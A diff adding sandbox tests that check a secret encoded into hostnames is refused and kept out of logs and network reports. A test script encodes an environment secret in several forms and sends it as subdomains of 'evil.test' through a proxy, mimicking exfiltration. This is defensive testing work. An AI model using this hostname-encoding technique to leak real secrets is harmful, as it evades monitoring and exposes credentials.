@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import sqlite3
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -13,6 +14,7 @@ import pytest
 from interlock.common.errors import InterlockError, Reason
 from interlock.executor.sandbox.network.config import NetworkConfig
 from interlock.v1 import executor_pb2 as pb
+from interlock.v1 import step_pb2
 
 
 class Server:
@@ -146,6 +148,57 @@ async def test_it_says_what_network_it_gives(net: Any, server: Server) -> None:
         f"good.test:{server.port}, *.inner.test:443; not public, and allowed: 127.0.0.0/8"
         in told(info).detail
     )
+
+
+SECRET = "Tr0ub4dor-And.3-Horses"
+
+TELLS = """
+import base64, os, socket
+value = os.environ["T"]
+names = [value, value.lower(), value.encode().hex(), base64.b32encode(value.encode()).decode().rstrip("="),
+         base64.urlsafe_b64encode(value.encode()).decode().rstrip("=")]
+names += [f"{name[:9]}.{name[9:]}" for name in names]
+for name in names:
+    for request in (f"CONNECT {name}.evil.test:443", f"CONNECT {name}", f"GET http://{name}.evil.test/"):
+        with socket.create_connection(("127.0.0.1", 3128)) as s:
+            s.sendall(f"{request} HTTP/1.1\\r\\n\\r\\n".encode())
+            while s.recv(1000): pass
+"""
+
+
+async def test_a_secret_that_is_called_a_host_is_in_no_record_and_no_log(
+    net: Any, act: Any, server: Server
+) -> None:
+    await net.restart(**net.env, INTERLOCK_SECRET_HORSE=SECRET)
+    ws = await net.workspace()
+    uses = [step_pb2.SecretUse(name="horse", appears_as="T")]
+    action = act.command(f"python3 - <<'E'\n{TELLS}E\n", network=hosts(server), secrets=uses)
+    prepared = await net.prepare(ws, action)
+    assert prepared.effect.exit_code == 0, prepared.effect.stderr.head
+    report = prepared.effect.network
+    assert (report.attempts_total, report.refused_total) == (30, 30)
+    assert {each.host for each in report.attempts} == {"[secret:horse]"}
+    logged = net.child.log.replace(".", "").lower()
+    shown = (prepared.effect.network.SerializeToString() + net.child.log.encode()).replace(b".", b"").lower()
+    encoded = SECRET.encode()
+    for form in (
+        encoded,
+        encoded.hex().encode(),
+        base64.b32encode(encoded),
+        base64.urlsafe_b64encode(encoded),
+    ):
+        assert form.rstrip(b"=").replace(b".", b"").lower() not in shown
+    assert logged.count("[secret:horse]") >= 30
+
+
+async def test_a_secret_among_the_hosts_of_a_request_is_refused(net: Any, act: Any) -> None:
+    await net.restart(**net.env, INTERLOCK_SECRET_HORSE=SECRET)
+    uses = [step_pb2.SecretUse(name="horse", appears_as="T")]
+    asked = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower() + ".inner.test:443"
+    action = act.command("true", network=["a.inner.test:443", asked], secrets=uses)
+    with pytest.raises(InterlockError) as caught:
+        await net.prepare(await net.workspace(), action)
+    assert (caught.value.reason, caught.value.field) == (Reason.SECRET_UNUSABLE, "network[1]")
 
 
 def told(info: pb.GetExecutorInfoResponse) -> pb.ProbeResult:
